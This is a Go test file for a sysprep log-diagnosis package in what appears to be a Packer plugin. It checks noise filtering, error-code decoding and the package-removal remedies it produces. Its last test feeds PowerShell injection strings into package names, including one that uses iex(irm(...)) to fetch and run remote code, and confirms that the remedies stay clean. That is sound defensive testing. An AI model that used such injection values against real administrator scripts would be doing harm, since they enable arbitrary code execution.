package diagnosis

import (
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/packer-plugin-sysprep/packer-plugin-sysprep/internal/testutil"
)

func appx(full string) string {
	return "Package " + full + " was installed for a user, but not provisioned for all users. This package will not function properly in the sysprep image."
}

// noiseSamples are lines of good runs (azure-docs #43893, winget-cli #5599).
var noiseSamples = []string{
	"Error 0x-2147417850: Failed to re-enable Compat-Gentel custom trigger.[gle=0x0000047e]",
	"setupdigetclassdevs failed with error 0",
	`MRTGeneralize:107 - ERROR: Failed DeleteInstance AntiSpywareProduct.instanceGuid="{D68DDC3A-831F-4FAE-9E44-DA132C1ACF46}" hr=2147749904`,
	"BCD: BiUpdateEfiEntry failed c000000d",
	"BCD: BiExportBcdObjects failed c000000d",
	"BCD: BiExportStoreAlterationsToEfi failed c000000d",
	"BCD: Failed to export alterations to firmware. Status: c000000d",
	"SPPNP: Failed to queue enumerated driver packages. Err = 0x57",
	`Unable to uninstall device ROOT\VOLMGR\0000. Err = 0xE0000231`,
	"WinMain: File operations pending",
	`00000001 Shim considered [l:125]'\??\C:\Windows\Servicing\wcp.dll' : got STATUS_OBJECT_PATH_NOT_FOUND`,
	"[windeploy.exe] CFirstUXWnd::OpenExisting failed with error 80070490",
}

func TestNoiseIsNeverACause(t *testing.T) {
	for _, message := range noiseSamples {
		line := "2025-01-02 03:04:05, Error                 SYSPRP " + message + "\n"
		if d, ok := Diagnose(Split(Parse([]byte(line)))[0]); ok {
			t.Errorf("%q is diagnosed as %s", message, d.ID)
		}
		if p := Milestone(Parse([]byte(line))[0]); p != "" {
			t.Errorf("%q is shown as progress %q", message, p)
		}
	}
	// An export of a log viewer has no levels: lines of good providers are not
	// errors there.
	for _, module := range []string{"'ValidateBitLockerState' from C:\\Windows\\System32\\BdeSysprep.dll", "'SysPrepDtcCleanup' from C:\\Windows\\System32\\msdtcprx.dll", "'Sysprep_Clean_Validate_Opk' from C:\\Windows\\System32\\spopk.dll", "'SLReArmWindows' from C:\\Windows\\System32\\slc.dll"} {
		if d, ok := Diagnose(Split(Parse([]byte("02-07-2022 15:18:02.000 SYSPRP ActionPlatform::LaunchModule: Executing method " + module)))[0]); ok {
			t.Errorf("%s is diagnosed as %s", module, d.ID)
		}
	}
	// Noise next to the failure does not become its cause either.
	log := strings.ReplaceAll(refusedRun, "2025-07-22 21:00:18,", "2025-07-22 21:00:17, Error                 SYSPRP "+noiseSamples[0]+"\r\n2025-07-22 21:00:18,")
	if d, ok := Diagnose(Split(Parse([]byte(log)))[0]); !ok || d.ID != "F06" || slices.ContainsFunc(d.Evidence, func(e string) bool { return strings.Contains(e, "Gentel") }) {
		t.Errorf("diagnosis %+v", d)
	}
}

func TestADiagnosisNamesPackageEvidenceAndRemedy(t *testing.T) {
	d, ok := Diagnose(Split(Parse([]byte(refusedRun)))[0])
	if !ok || d.ID != "F06" || d.Phase != PhaseValidate {
		t.Fatalf("%+v", d)
	}
	if !strings.Contains(d.Summary, "Microsoft.Edge.GameAssist_1.0.3423.0_x64__8wekyb3d8bbwe") {
		t.Errorf("summary %q", d.Summary)
	}
	if !strings.Contains(d.Remedy[0], "Get-AppxPackage -AllUsers -Name 'Microsoft.Edge.GameAssist' | Remove-AppxPackage") {
		t.Errorf("remedy %q", d.Remedy)
	}
	for i, part := range []string{"Package Microsoft.Edge.GameAssist", "Failure occurred while executing", "Hit failure while pre-validate"} {
		if i >= len(d.Evidence) || !strings.Contains(d.Evidence[i], part) {
			t.Fatalf("evidence %q lacks %q", d.Evidence, part)
		}
	}
}

func TestSeveralPackagesAreAllListed(t *testing.T) {
	log := strings.Replace(refusedRun, "2025-07-22 21:00:15,", "2025-07-22 21:00:15, Error                 SYSPRP "+appx("Adobe.XD_57.1.12.2_x64__pc75e8sa7ep4e")+"\r\n2025-07-22 21:00:15,", 1)
	d, _ := Diagnose(Split(Parse([]byte(log)))[0])
	for _, name := range []string{"Microsoft.Edge.GameAssist_1.0", "Adobe.XD_57"} {
		if !strings.Contains(d.Summary, name) {
			t.Errorf("%q is missing in %q", name, d.Summary)
		}
	}
	if !slices.ContainsFunc(d.Remedy, func(r string) bool { return strings.Contains(r, "-Name 'Adobe.XD'") }) {
		t.Errorf("remedy %q", d.Remedy)
	}
}

func TestAnUnknownFailureShowsModuleCodeAndTheErrorsAbove(t *testing.T) {
	var b strings.Builder
	for _, text := range []string{"e1", "e2", "e3", "e4", "e5", "e6",
		`ActionPlatform::LaunchModule: Failure occurred while executing 'Sysprep_Foo' from C:\Windows\System32\foo.dll; dwRet = 0x5`,
		"RunDlls:An error occurred while running registry sysprep DLLs, halting sysprep execution. dwRet = 0x5",
		"WinMain:Hit failure while processing sysprep generalize internal providers; hr = 0x80070005"} {
		b.WriteString("2025-01-02 03:04:05, Error                 SYSPRP " + text + "\r\n")
	}
	d, ok := Diagnose(Split(Parse([]byte(b.String())))[0])
	if !ok || d.ID != "F00" || d.Phase != PhaseProcess || !d.Unconfirmed {
		t.Fatalf("%+v", d)
	}
	if want := `'Sysprep_Foo' of C:\Windows\System32\foo.dll failed with 0x5 = 0x80070005: access denied`; !strings.HasPrefix(d.Summary, want) {
		t.Errorf("summary %q", d.Summary)
	}
	if len(d.Evidence) != 7 || !strings.HasSuffix(d.Evidence[0], "e2") || !strings.Contains(d.Evidence[6], "Hit failure") {
		t.Errorf("evidence %q", d.Evidence)
	}
	for _, line := range []string{"LaunchDll:Failure occurred while executing 'bar.dll,Go', returned error code 0x2", "RunDlls:halting sysprep execution. dwRet = 0x7a"} {
		if d, ok := Diagnose(Split(Parse([]byte("Error SYSPRP " + line)))[0]); !ok || d.ID != "F00" || !strings.Contains(d.Summary, " = 0x800700") {
			t.Errorf("%q: %+v", line, d)
		}
	}
}

func TestCodesAreDecoded(t *testing.T) {
	for text, want := range map[string]string{
		"0x3cf2":        "0x3cf2 = 0x80073cf2: the package is invalid",
		"0x80073cf2":    "0x80073cf2: the package is invalid",
		"0x975":         "0x975 = 0x800f0975: reserved storage",
		"0x80070975":    "0x80070975 = 0x800f0975: reserved storage",
		"0x800F0975":    "0x800F0975: reserved storage",
		"-1073425657":   "-1073425657 = 0xc004d307: the number of rearms",
		"0x-2147417850": "0x-2147417850 = 0x80010106",
		"2147749904":    "2147749904 = 0x80041010",
		"31":            "31 = 0x8007001f: a device or an earlier step",
		"2":             "2 = 0x80070002: file not found",
		"0x0":           "0x0 = 0x00000000",
		"c000000d?":     "c000000d?",
		"99999999999":   "99999999999",
	} {
		if got := describeCode(text); !strings.HasPrefix(got, want) {
			t.Errorf("%s: %q, want %q", text, got, want)
		}
	}
}

func TestKnownCausesCanBeAskedFor(t *testing.T) {
	d, ok := ByID("F51")
	if !ok || d.Name != "ALREADY_RUNNING" || len(d.Remedy) == 0 || d.Phase != PhaseLaunch {
		t.Errorf("%+v", d)
	}
	if d, _ := ByID("F01"); !strings.Contains(d.Summary, "<package>") {
		t.Errorf("summary %q", d.Summary)
	}
	if _, ok := ByID("F99"); ok {
		t.Error("F99 is not in the catalogue")
	}
}

func TestTheCorpusIsDiagnosedAsItsIndexSays(t *testing.T) {
	dir := testutil.Corpus(t, "logs")
	type want struct {
		runs  int
		id    string // of the last run; empty: no failure
		phase Phase
		text  string // in the summary
	}
	wants := map[string]want{
		"panther-setupact-no-system-partition.log":        {1, "F90", PhaseFirstBoot, "STATUS_SYSTEM_DEVICE_NOT_FOUND"},
		"panther-setuperr-answer-file-value-too-long.log": {1, "F66", PhaseFirstBoot, "RunSynchronousCommand 2"},
		"setupact-malformed-command-line.log":             {1, "F50", PhaseLaunch, "command line"},
		"setuperr-dwret31-previous-failure.log":           {1, "F32", PhaseProcess, "earlier sysprep run"},
		"unattendgc-copyprofile-failed.log":               {1, "F89", PhaseFirstBoot, "0x80070003: path not found"},
		"w10-16299-panther-setupact-specialize.log":       {1, "", "", ""},
		"w10-19041-setuperr-appx-two-packages.log":        {2, "F01", PhaseValidate, "Adobe.XD_57.1.12.2_x64__pc75e8sa7ep4e"},
		"w10-setuperr-appx-in-generalize-phase.log":       {1, "F01", PhaseProcess, "<PackageFullName>"},
		"w11-cmtrace-style-appx-onedrivesync.log":         {1, "F09", PhaseValidate, "Microsoft.OneDriveSync_21220.1024.5.0_neutral__8wekyb3d8bbwe"},
		"w11-cmtrace-style-reserved-storage.log":          {1, "F22", PhaseValidate, "reserved storage"},
		"w11-setuperr-bitlocker.log":                      {1, "F20", PhaseValidate, "BitLocker"},
		"w7-setuperr-rearm-c004d307.log":                  {1, "F30", PhaseProcess, "0xc004d307"},
		// setuperr.log has no line that begins a run, so that three runs are one.
		"runner-images-14499-appx-wsl.log":                 {1, "F13", PhaseValidate, "MicrosoftCorporationII.WindowsSubsystemForLinux_2.7.11.0_x64__8wekyb3d8bbwe"},
		"runner-images-7103-harmless-only.log":             {1, "", "", ""},
		"runner-images-7103-setuperr.log":                  {1, "F38", PhaseProcess, "Defender for Endpoint"},
		"ws2012r2-panther-setupact-specialize-vm-mode.log": {1, "", "", ""},
		"ws2012r2-unattendgc-setuperr.log":                 {1, "", "", ""},
		"ws2022-setupact-complete-refused-run-appx.log":    {1, "F06", PhaseValidate, "Microsoft.Edge.GameAssist_1.0.3423.0_x64__8wekyb3d8bbwe"},
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.log"))
	if err != nil || len(files) < len(wants) {
		t.Errorf("%d logs in the corpus, at least %d are expected (%v)", len(files), len(wants), err)
	}
	// The corpus grows without us: a log that is new to this table is read, too.
	for _, f := range files {
		if _, known := wants[filepath.Base(f)]; known {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, run := range Split(Parse(b)) {
			if d, failed := Diagnose(run); failed {
				t.Logf("%s is not in the table: %s %s %q", filepath.Base(f), d.ID, d.Phase, d.Summary)
			}
		}
	}
	for name, want := range wants {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Errorf("reading corpus: %v", err)
			continue
		}
		runs := Split(Parse(b))
		if len(runs) != want.runs {
			t.Errorf("%s: %d runs, want %d", name, len(runs), want.runs)
			continue
		}
		d, ok := Diagnose(runs[len(runs)-1])
		if ok != (want.id != "") || d.ID != want.id || d.Phase != want.phase || !strings.Contains(d.Summary, want.text) {
			t.Errorf("%s: got %s %s %q", name, d.ID, d.Phase, d.Summary)
		}
		for _, e := range d.Evidence {
			if !strings.Contains(strings.ReplaceAll(string(b), "\r", ""), e) {
				t.Errorf("%s: evidence is not verbatim: %q", name, e)
			}
		}
	}
	// The first of the two runs is about another package.
	b, err := os.ReadFile(filepath.Join(dir, "w10-19041-setuperr-appx-two-packages.log"))
	if err != nil {
		t.Fatal(err)
	}
	if d, _ := Diagnose(Split(Parse(b))[0]); d.ID != "F08" || !strings.Contains(d.Summary, "language es-ES") {
		t.Errorf("first run: %+v", d)
	}
	// The complete run, fact by fact.
	b, err = os.ReadFile(filepath.Join(dir, "ws2022-setupact-complete-refused-run-appx.log"))
	if err != nil {
		t.Fatal(err)
	}
	f := Split(Parse(b))[0].Progress
	if f.Runs != 1 || f.Lines != 37 || !f.Closed || f.Failure != ValidateFailure || !slices.Equal(f.Options, []string{"OOBE", "GENERALIZE", "SHUTDOWN"}) {
		t.Errorf("facts of the complete run: %+v", f)
	}
}

// A remedy is pasted into an administrator's PowerShell.
func TestALogCannotPutCommandsIntoARemedy(t *testing.T) {
	for _, name := range []string{"x';iex(irm('//evil'));'_1.0", "x`n$(evil)_1.0", "\u2019;evil;\u2018_1.0", strings.Repeat("x", 51) + "_1.0"} {
		log := regexp.MustCompile(`Package \S+ was`).ReplaceAllLiteralString(refusedRun, "Package "+name+" was")
		runs := Split(Parse([]byte(log)))
		d, ok := Diagnose(runs[len(runs)-1])
		if !ok || d.ID != "F01" {
			t.Fatalf("%s: %v %s", name, ok, d.ID)
		}
		for _, remedy := range d.Remedy {
			if strings.Contains(remedy, "evil") || strings.Contains(remedy, "xxx") || strings.Contains(remedy, "-Name ") && !strings.Contains(remedy, "'<name>'") {
				t.Errorf("%s: %s", name, remedy)
			}
		}
	}
}
